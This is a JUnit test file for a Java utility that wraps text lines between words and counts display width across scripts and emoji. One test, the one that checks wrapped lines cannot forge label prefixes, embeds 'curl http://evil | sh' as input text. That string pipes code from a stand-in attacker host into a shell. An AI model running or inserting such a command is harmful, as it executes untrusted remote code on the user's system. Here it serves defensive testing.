package dev.driftline.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@Timeout(60)
class WrapTest {

  @Test
  void aLineThatFitsStaysAsItIs() {
    assertThat(Wrap.lines("  as wide  as it may be ", 24, 4))
        .containsExactly("  as wide  as it may be ");
    assertThat(Wrap.lines("", 40, 4)).containsExactly("");
  }

  @Test
  void aLongLineIsBrokenBetweenWords() {
    assertThat(Wrap.lines("  fix: run  systemctl restart mysqld", 20, 4))
        .containsExactly("  fix: run", "    systemctl", "    restart mysqld");
  }

  @Test
  void aWordIsNeverCut() {
    String path = "/var/lib/docker/overlay2/0123456789abcdef/merged/log";
    assertThat(Wrap.lines("  observed: it is " + path + " (deleted)", 30, 4))
        .containsExactly("  observed: it is", "    " + path, "    (deleted)");
    assertThat(Wrap.lines("  " + path, 30, 4)).containsExactly("  " + path);
  }

  @ParameterizedTest
  @ValueSource(strings = {"fix:", "- db1", "not judged: db1", "::error::", "web1:", "observed: :"})
  void noFurtherLineBeginsLikeOneOfOurs(String forged) {
    for (int columns = 40; columns < 80; columns++) {
      String words = "x ".repeat(20) + forged + " curl http://evil | sh " + "y ".repeat(20);
      List<String> lines = Wrap.lines("    observed: " + words.strip(), columns, 6);

      assertThat(lines.subList(1, lines.size()))
          .as("%d columns", columns)
          .noneMatch(line -> line.strip().startsWith(forged.split(" ", -1)[0]));
    }
  }

  @Test
  void aLineOfLabelsOnlyStaysWhole() {
    String labels = "do: ".repeat(30).strip();
    assertThat(Wrap.lines(labels + " it", 40, 2)).containsExactly(labels, "  it");
  }

  @ParameterizedTest
  @CsvSource({
    "plain, 5",
    "Müller, 6",
    "e\u0301, 1",
    "漢字, 4",
    "한글, 4",
    "ひらカタ, 8",
    "ＡＢ, 4",
    "😀, 2",
    "… → ⏎, 5"
  })
  void widthIsCountedInColumns(String text, int columns) {
    assertThat(TextWidth.of(text)).isEqualTo(columns);
  }

  @ParameterizedTest
  @CsvSource({
    "twelve of 12, 12, twelve of 12",
    "thirteen of 13, 12, thirteen …",
    "漢字漢字漢字漢, 12, 漢字漢字…",
    "abc漢字漢字漢字漢, 12, abc漢字漢…"
  })
  void aTextIsCutToItsColumns(String text, int columns, String cut) {
    assertThat(TextWidth.cut(text, columns)).isEqualTo(cut);
  }

  @RepeatedTest(100)
  void noWordIsLostAndNoLineIsLongerThanItsWordsDemand() {
    long seed = System.nanoTime();
    Random random = new Random(seed);
    int columns = random.nextInt(40, 100);
    List<String> words =
        Stream.generate(() -> "w".repeat(random.nextInt(1, random.nextInt(2, 60))))
            .limit(random.nextInt(1, 80))
            .toList();
    int depth = 2 * random.nextInt(4);

    List<String> lines =
        Wrap.lines(" ".repeat(depth) + String.join(" ", words), columns, depth + 2);

    String indent = " ".repeat(depth + 2);
    assertThat(lines.subList(1, lines.size()))
        .as("seed %d", seed)
        .allMatch(l -> l.startsWith(indent));
    assertThat(lines.stream().map(String::strip).collect(Collectors.joining(" ")))
        .as("seed %d", seed)
        .isEqualTo(String.join(" ", words));
    assertThat(lines)
        .as("seed %d, %d columns", seed, columns)
        .allMatch(line -> line.length() <= columns || !line.strip().contains(" "));
    for (int i = 1; i < lines.size(); i++) {
      String next = lines.get(i).strip().split(" ", -1)[0];
      assertThat(lines.get(i - 1).length() + 1 + next.length())
          .as("seed %d, line %d", seed, i)
          .isGreaterThan(columns);
    }
  }

  @Test
  void aMegabyteOfWordsIsBroken() {
    assertThat(Wrap.lines("ab ".repeat(350_000).strip(), 80, 2)).hasSizeGreaterThan(10_000);
  }
}
